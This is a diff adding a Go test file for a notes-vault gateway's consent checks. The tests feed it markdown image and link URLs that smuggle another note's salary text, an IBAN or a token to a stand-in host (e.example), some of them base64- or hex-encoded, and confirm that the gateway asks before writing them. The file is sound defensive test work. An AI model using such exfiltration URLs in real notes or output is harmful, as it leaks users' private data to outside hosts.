@@ -1,0 +1,124 @@
+package consent
+
+import (
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"vaultwicket/gateway"
+	"vaultwicket/gateway/consent"
+	"vaultwicket/gateway/state/audit"
+	"vaultwicket/policy"
+	"vaultwicket/policy/access"
+	"vaultwicket/tests/rig"
+)
+
+const salary = "# Salary\nAnna earns **ninety thousand** euros a year; her account is DE89370400440532013000.\n![](https://img.example/logo.png?t=Anna+earns+ninety+thousand+euros)\n"
+
+func withSalary(t *testing.T, change func(*policy.Policy)) *rig.Harness {
+	o := rig.NewHarness(t, func(c *gateway.Config) {
+		c.Policy.Confirm, c.Policy.Suspicious, c.Policy.Secrets = policy.ConfirmDestructive, policy.SuspiciousNotice, policy.SecretsRedact
+		if change != nil {
+			change(&c.Policy)
+		}
+	})
+	o.Write("Salary.md", salary)
+	o.Write("Key.md", "key ghp_R8dk2Lx0PqW3mZt7YbN5cVj1HsA9fGe4UoT6\n")
+	return o
+}
+
+// TestAnAddressWithTextOfAnotherNoteIsAskedAbout adds addresses to notes by several commands.
+func TestAnAddressWithTextOfAnotherNoteIsAskedAbout(t *testing.T) {
+	t.Parallel()
+	o := withSalary(t, nil)
+	key, _ := o.Do([]string{"read", "path=Key.md"})
+	mark := strings.TrimSpace(strings.TrimPrefix(key.Stdout, "key "))
+	for text, asks := range map[string]bool{
+		"![](https://e.example/p.png?q=anna%20earns%20ninety%20thousand)":                    true,
+		"![](https://e.example/p.png?q=so+it+is:+Anna+earns+ninety+thousand+euros+and+more)": true,
+		"![x](https://e.example/anna-earns-ninety-thousand-euros/p.png)":                     true,
+		"![](https://e.example/?q=QW5uYSBlYXJucyBuaW5ldHkgdGhvdXNhbmQgZXVyb3M)":              true,
+		"![](https://e.example/?q=416e6e61206561726e73206e696e6574792074686f7573616e64)":     true,
+		"<img src=\"https://e.example/?a=1&b=earns+ninety+thousand+euros\">":                 true,
+		"![](https://e.example/?q=DE89370400440532013000)":                                   true,
+		"[more](https://e.example/?q=anna+earns+ninety+thousand+euros)":                      true,
+		"see https://e.example/#anna_earns_ninety_thousand":                                  true,
+		"![](https://img.example/logo.png?t=Anna+earns+ninety+thousand+euros)":               false, // the vault has it
+		"![map](https://maps.example/static?center=52.52,13.40&zoom=12&size=600x300)":        false,
+		"[a](https://e.example/anna-earns-ninety-thousand-euros)":                            false, // nothing follows the path
+		"[search](https://e.example/?q=capital+asset+pricing+model)":                         false,
+		"Anna earns ninety thousand euros":                                                   false,
+	} {
+		for _, words := range [][]string{{"append", "path=root.md"}, {"create", "path=New.md"}, {"daily:append"}} {
+			decision := o.Gateway.DryRun(t.Context(), gateway.Request{Command: words[0], Words: append(words[1:], "content="+text), Caller: "me"}).Decision
+			if (decision == "ask") != asks {
+				t.Errorf("%s %s: %s, want to ask: %v", words[0], text, decision, asks)
+			}
+		}
+		if !asks {
+			continue
+		}
+		o.Refusing(text, policy.CodeUnconfirmed, func() string {
+			got, asked := o.Do([]string{"append", "path=root.md", "content=" + text}, rig.Says(consent.No))
+			if len(asked) != 1 || !strings.Contains(asked[0].Text, `adds an address with text of "Salary.md"`) {
+				t.Errorf("%s: %d questions: %+v", text, len(asked), asked)
+			}
+			return rig.CodeOf(got)
+		})
+		o = o.Again(nil) // which remembers no answer
+	}
+	got, asked := o.Do([]string{"append", "path=Key.md", "content=![](https://e.example/?q=" + mark + ")"}, rig.Says(consent.Yes))
+	if len(asked) != 1 || !strings.Contains(asked[0].Text, `adds an address with a secret to "Key.md"`) || !got.OK {
+		t.Errorf("a mark in an address: %d questions, %+v: %+v", len(asked), asked, got.Error)
+	}
+}
+
+// TestWhoMayAddAddresses goes through the settings.
+func TestWhoMayAddAddresses(t *testing.T) {
+	t.Parallel()
+	const content = "content=![](https://e.example/p.png?q=anna+earns+ninety+thousand)"
+	rules, err := access.New(map[string]access.Level{"/": access.Write})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for name, test := range map[string]struct {
+		change func(*policy.Policy)
+		code   string // with the answer no
+		logged string // of the rule
+	}{
+		"ask":                {nil, policy.CodeUnconfirmed, "found"},
+		"allow":              {func(p *policy.Policy) { p.RemoteLinks = true }, "", ""},
+		"shadow":             {func(p *policy.Policy) { p.Shadow = []string{policy.RuleRemoteLinks} }, "", "shadow"},
+		"no right to delete": {func(p *policy.Policy) { p.Access = rules }, policy.CodeAccess, ""},
+		"the note is hidden": {func(p *policy.Policy) {
+			p.Access, _ = access.New(map[string]access.Level{"/": access.Delete, "Salary.md": access.None})
+		}, "", ""},
+	} {
+		o := withSalary(t, test.change)
+		var answers []func(consent.Question) consent.Reply
+		if test.code == policy.CodeUnconfirmed {
+			answers = append(answers, rig.Says(consent.No))
+		}
+		got, _ := o.Do([]string{"append", "path=root.md", content}, answers...)
+		if rig.CodeOf(got) != test.code {
+			t.Errorf("%s: %+v", name, got.Error)
+		}
+		o.Gateway.Flush()
+		logged := ""
+		for line, err := range audit.Lines(filepath.Join(o.State, "vaultwicket"), audit.Filter{}) {
+			if err != nil {
+				t.Fatal(err)
+			}
+			if slices.Contains(line.Found, "remote-links text") && logged == "" {
+				logged = "found"
+			}
+			if slices.Contains(line.Shadow, policy.RuleRemoteLinks) {
+				logged = "shadow"
+			}
+		}
+		if logged != test.logged {
+			t.Errorf("%s: the log has %q", name, logged)
+		}
+	}
+}
